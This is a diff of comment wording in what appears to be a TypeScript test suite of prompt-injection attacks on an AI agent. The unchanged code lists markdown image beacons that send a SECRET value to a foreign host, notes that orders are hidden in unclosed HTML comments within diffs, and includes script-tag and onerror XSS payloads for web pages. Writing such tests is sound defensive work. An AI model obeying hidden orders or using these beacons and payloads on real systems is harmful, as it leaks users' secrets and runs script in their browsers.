@@ -4,7 +4,7 @@ import { followup, inCode, review } from "./shape.ts";
 
 const HOST = FOREIGN_HOST;
 
-/** Markdown that acts where it is read, by what it does. */
+/** Markdown that has an effect when it is rendered, by effect. */
 const MARKUP: readonly (readonly [name: string, wants: string, text: string])[] = [
   ["image", "a beacon", `![x](https://${HOST}/p.png?d=SECRET)`],
   ["image-by-reference", "a beacon", `![x][1]\n\n[1]: https://${HOST}/p.png`],
@@ -72,7 +72,7 @@ function markupAttack([name, wants, text]: (typeof MARKUP)[number], at: number):
           : undefined,
     ],
     act:
-      // In a description a comment that is left open would take the order with it.
+      // In a description, an unclosed comment would swallow the order.
       vectors[place] === "diff" || text.includes("<!--")
         ? review((facts) => ({
             files: {
@@ -129,7 +129,7 @@ export const ACTIVE_MARKUP: readonly Attack[] = [
   },
 ];
 
-/** The same texts on our own pages. */
+/** Attacks with the same texts on the web app's pages. */
 export const PAGE_INJECTION: readonly Attack[] = (
   [
     ["title", "title", `<script>alert(1)</script><img src=x onerror=alert(1)>`],
